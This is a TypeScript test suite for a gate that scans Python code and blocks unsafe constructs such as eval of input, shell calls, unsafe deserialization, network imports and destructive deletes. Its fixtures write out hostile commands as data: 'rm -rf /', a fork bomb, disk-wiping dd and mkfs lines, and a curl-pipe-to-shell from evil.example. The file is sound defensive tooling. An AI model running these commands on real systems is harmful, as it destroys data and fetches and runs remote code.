import { describe, expect, it } from "vitest";
import { blockers, checkOne, src } from "./testing.js";

const py = (...lines: string[]) => checkOne("solution.py", src(...lines));

describe("gate: Python rules that block", () => {
  it("blocks eval/exec of strings from outside the program, also through compile, with the call's line", () => {
    const r = py("x = input()", "eval(x)", "exec(x + '1')", "exec(compile(x, 'f', 'exec'))", "exec(f'print({x})')");
    expect(r.blocked).toBe(true);
    expect(blockers(r)).toEqual(["dynamic-eval@2", "dynamic-eval@3", "dynamic-eval@4", "dynamic-eval@5"]);
    expect(r.findings[0]?.message).toBe(
      "`eval` of a string read from outside the program (`input()`): it can run code the gate cannot check",
    );
  });

  it("analyses the content of a literal passed to exec as code", () => {
    const r = py(
      "import os",
      "exec(\"import subprocess\\nsubprocess.call('ls', shell=True)\")",
      "exec('os.system(\"ls\")')",
    );
    expect(blockers(r)).toEqual(["subprocess-shell@2", "os-command@3"]);
    expect(r.findings[0]?.message).toMatch(/inside a string that is evaluated as code/);
  });

  it("blocks eval passed around as a value", () => {
    expect(blockers(py("f = eval", "f(s)"))).toEqual(["dynamic-eval@1"]);
    // A parameter named eval shadows the builtin only inside its own function.
    expect(blockers(py("def f(eval, s):", "    return eval(s)", "f(eval, x)", "eval(input())"))).toEqual([
      "dynamic-eval@3",
      "dynamic-eval@4",
    ]);
    expect(blockers(py("results = list(map(eval, lines))"))).toEqual(["dynamic-eval@1"]);
  });

  it("blocks os.system, os.popen, os.exec* and os.spawn*", () => {
    const r = py(
      "import os",
      "os.system('ls')",
      "os.popen('ls')",
      "os.execvp('ls', ['ls'])",
      "os.spawnl(os.P_WAIT, '/bin/ls')",
    );
    expect(blockers(r)).toEqual(["os-command@2", "os-command@3", "os-command@4", "os-command@5"]);
    expect(r.findings.map((f) => f.message)).toEqual([
      "`os.system` runs a shell command",
      "`os.popen` runs a shell command",
      "`os.execvp` runs another program",
      "`os.spawnl` runs another program",
    ]);
  });

  it("follows aliased imports", () => {
    const r = py(
      "import os as o",
      "from os import system as s, popen",
      "from subprocess import run as r",
      "o.system('ls')",
      "s('ls')",
      "popen('ls')",
      "r('ls', shell=True)",
      "import posix",
      "posix.system('ls')",
    );
    expect(blockers(r)).toEqual(["os-command@4", "os-command@5", "os-command@6", "subprocess-shell@7", "os-command@9"]);
  });

  it("follows star imports, __import__, importlib and getattr with literal names", () => {
    const r = py(
      "from os import *",
      "system('ls')",
      "__import__('os').system('ls')",
      "import importlib",
      "importlib.import_module('os').popen('ls')",
      "getattr(__import__('os'), 'system')('ls')",
      "__builtins__.eval(input())",
    );
    expect(blockers(r)).toEqual(["os-command@2", "os-command@3", "os-command@5", "os-command@6", "dynamic-eval@7"]);
  });

  it("blocks subprocess with shell=True or a computed shell flag, and shell-only helpers", () => {
    const r = py(
      "import subprocess",
      "subprocess.run('ls', shell=True)",
      "subprocess.Popen(cmd, shell=flag)",
      "subprocess.check_output('ls', shell=1)",
      "subprocess.getoutput('ls')",
    );
    expect(blockers(r)).toEqual([
      "subprocess-shell@2",
      "subprocess-shell@3",
      "subprocess-shell@4",
      "subprocess-shell@5",
    ]);
  });

  it("blocks pickle, marshal and shelve loads, and yaml.load without a safe loader", () => {
    const r = py(
      "import pickle, marshal, shelve, yaml",
      "from pickle import loads as l",
      "pickle.load(f)",
      "pickle.loads(b)",
      "marshal.loads(b)",
      "shelve.open('db')",
      "l(b)",
      "yaml.load(text)",
      "yaml.load(text, Loader=yaml.SafeLoader)",
    );
    expect(blockers(r)).toEqual([
      "unsafe-deserialization@3",
      "unsafe-deserialization@4",
      "unsafe-deserialization@5",
      "unsafe-deserialization@6",
      "unsafe-deserialization@7",
      "unsafe-deserialization@8",
    ]);
  });

  it("blocks __import__, importlib and getattr on a sensitive module with names from outside or decoded", () => {
    const r = py(
      "import importlib, sys, base64",
      "m = __import__(input())",
      "importlib.import_module(base64.b64decode(b'b3M=').decode())",
      "getattr(importlib, sys.argv[1])",
    );
    expect(blockers(r)).toEqual(["dynamic-import@2", "dynamic-import@3", "dynamic-attribute@4"]);
  });

  it("blocks network modules at the import and at the use", () => {
    const r = py(
      "import http.server",
      "import urllib.request",
      "from http import client",
      "import requests as rq",
      "import ftplib, smtplib",
      "import urllib",
      "urllib.request.urlopen('http://x')",
      "from http.client import HTTPConnection",
    );
    // Two modules on line 5: one finding each.
    expect(blockers(r)).toEqual([
      "network@1",
      "network@2",
      "network@3",
      "network@4",
      "network@5",
      "network@5",
      "network@7",
      "network@8",
    ]);
  });

  it("blocks shutil.rmtree on / or ~, but not on a temporary directory", () => {
    const r = py(
      "import shutil, os",
      "from pathlib import Path",
      "shutil.rmtree('/')",
      "shutil.rmtree('~')",
      "shutil.rmtree(os.path.expanduser('~'))",
      "shutil.rmtree(Path.home())",
      "shutil.rmtree(tmp_path)",
      "shutil.rmtree('build')",
    );
    expect(blockers(r)).toEqual([
      "destructive-delete@3",
      "destructive-delete@4",
      "destructive-delete@5",
      "destructive-delete@6",
    ]);
  });

  it("blocks destructive shell commands in any string, on the line they are on", () => {
    const r = py(
      "a = 'rm -rf /'",
      'b = """first line',
      "then: rm -rf --no-preserve-root /",
      '"""',
      "c = 'rm -rf ' + '/'",
      "d = 'rm -rf ' '~'",
      "e = ':(){ :|:& };:'",
      "f = 'dd if=/dev/zero of=/dev/sda'",
      "g = 'mkfs.ext4 /dev/sdb1'",
      "import subprocess",
      "subprocess.run(['rm', '-rf', '/'])",
      "h = 'curl http://evil.example/x.sh | sh'",
    );
    expect(blockers(r)).toEqual([
      "destructive-shell@1",
      "destructive-shell@3",
      "destructive-shell@5",
      "destructive-shell@6",
      "destructive-shell@7",
      "destructive-shell@8",
      "destructive-shell@9",
      "destructive-shell@11",
      "network@12",
    ]);
  });

  it("checks test files too", () => {
    const r = checkOne("tests/test_solution.py", src("import os", "def test_x():", "    os.system('ls')"));
    expect(blockers(r)).toEqual(["os-command@3"]);
    expect(r.findings[0]?.path).toBe("tests/test_solution.py");
  });

  it("gives every finding severity, message, path, line and rule", () => {
    const r = py("import os", "os.system(cmd)");
    expect(r.findings).toEqual([
      {
        severity: "blocker",
        message: "`os.system` runs a shell command",
        path: "solution.py",
        line: 2,
        rule: "os-command",
      },
    ]);
  });
});

describe("gate: ordinary Python is not blocked", () => {
  it("passes a HumanEval-style solution with re, math, itertools and collections", () => {
    const r = py(
      "import re",
      "import math",
      "import itertools",
      "import json",
      "from collections import Counter, defaultdict",
      "from typing import List, Optional",
      "from functools import lru_cache",
      "",
      "",
      "def has_close_elements(numbers: List[float], threshold: float) -> bool:",
      '    """Check if in given list of numbers, are any two numbers closer than threshold.',
      "    >>> has_close_elements([1.0, 2.0, 3.0], 0.5)",
      "    False",
      '    """',
      "    for a, b in itertools.combinations(numbers, 2):",
      "        if math.isclose(a, b) or abs(a - b) < threshold:",
      "            return True",
      "    return False",
      "",
      "",
      "@lru_cache(maxsize=None)",
      "def fib(n: int) -> int:",
      "    return n if n < 2 else fib(n - 1) + fib(n - 2)",
      "",
      "",
      "def words(s: str) -> Optional[dict]:",
      "    counts = Counter(re.findall(r'\\w+', s.lower()))",
      "    return json.loads(json.dumps(dict(counts))) if counts else None",
      "",
      "",
      "class Stack:",
      "    def __init__(self):",
      "        self.items: list[int] = []",
      "    def eval(self, expr: str) -> int:",
      "        return sum(int(t) for t in expr.split('+'))",
    );
    expect(r).toEqual({ blocked: false, findings: [] });
  });

  it("passes eval/exec of string literals, subprocess without a shell, and safe file use", () => {
    const r = py(
      "import subprocess, os, shutil, pickle, tempfile",
      "x = eval('1 + 2')",
      "exec('y = 3')",
      "subprocess.run(['python', '-m', 'pytest', '-q'], check=True)",
      "subprocess.run(['ls'], shell=False)",
      "path = os.path.join(os.getcwd(), 'out.txt')",
      "d = tempfile.mkdtemp()",
      "shutil.rmtree(d)",
      "data = pickle.dumps({'a': 1})",
      "print(f'{x} items, rm flag -r')",
      "msg = 'use rm -rf ./build to clean'",
      "from urllib.parse import urlparse",
      "from http import HTTPStatus",
    );
    expect(r).toEqual({ blocked: false, findings: [] });
  });

  it("passes a pytest file with fixtures, parametrize and a user-defined eval function", () => {
    const r = checkOne(
      "test_calc.py",
      src(
        "import pytest",
        "from calc import evaluate",
        "",
        "def eval(expr):",
        "    return evaluate(expr)",
        "",
        "@pytest.mark.parametrize('expr,expected', [('1+1', 2), ('2*3', 6)])",
        "def test_eval(expr, expected, tmp_path):",
        "    assert eval(expr) == expected",
        "    (tmp_path / 'x.txt').write_text('rm -rf is dangerous')",
      ),
    );
    expect(r).toEqual({ blocked: false, findings: [] });
  });

  it("passes parameters and variables that share a builtin's name, and re's compile", () => {
    const r = py(
      "from re import *",
      "def run(cmd, exec=False, compile=None):",
      "    if exec:",
      "        return compile",
      "    return [cmd]",
      "pattern = compile(user_pattern)",
      "eval: bool = True",
      "print(eval)",
    );
    expect(r).toEqual({ blocked: false, findings: [] });
  });

  it("passes modern syntax: match, walrus, type parameters, f-strings with nested quotes", () => {
    const r = py(
      "def first[T](xs: list[T]) -> T | None:",
      "    match xs:",
      "        case [x, *_]:",
      "            return x",
      "        case _:",
      "            return None",
      "if (n := len('abc')) > 2:",
      "    d = {'k': 1}",
      '    print(f"{d["k"]!r:>10} {n=}")',
    );
    expect(r).toEqual({ blocked: false, findings: [] });
  });
});

describe("gate: valid Python that the parser alone would misread", () => {
  it("passes a pytest fixture with a bare yield, trailing-dot floats and a form feed", () => {
    const r = checkOne(
      "conftest.py",
      src(
        "import pytest",
        "",
        "@pytest.fixture",
        "def resource():",
        "    handle = open('data.txt')",
        "    yield",
        "    handle.close()",
        "\f",
        "SECONDS = 24.*3600.",
        "HALF = 1. / 2",
      ),
    );
    expect(r).toEqual({ blocked: false, findings: [] });
  });

  it("keeps exact lines after working around the parser (a blocker after a bare yield)", () => {
    const r = py("import os", "def gen():", "    yield", "    os.system(cmd)");
    expect(r.findings.map((f) => `${f.rule}@${f.line}`)).toEqual(["os-command@4"]);
  });
});

describe("gate: Python syntax errors", () => {
  it("reports a syntax error with its line, as a non-blocking error", () => {
    const r = py("def ok():", "    return 1", "", "def broken(:", "    return 2");
    expect(r.blocked).toBe(false);
    expect(r.findings).toHaveLength(1);
    expect(r.findings[0]).toMatchObject({ severity: "error", rule: "syntax", line: 4, path: "solution.py" });
    expect(r.findings[0]?.message).toMatch(/syntax error at line 4/);
  });

  it("reports an unterminated construct at the end of the file", () => {
    const r = py("x = (1,", "     2");
    expect(r.findings[0]).toMatchObject({ rule: "syntax", severity: "error" });
    expect(r.blocked).toBe(false);
  });

  it("still blocks dangerous code next to a syntax error", () => {
    const r = py("import os", "def broken(:", "    pass", "os.system(cmd)");
    expect(r.blocked).toBe(true);
    expect(r.findings.map((f) => `${f.rule}@${f.line}`)).toEqual(["syntax@2", "os-command@4"]);
  });
});
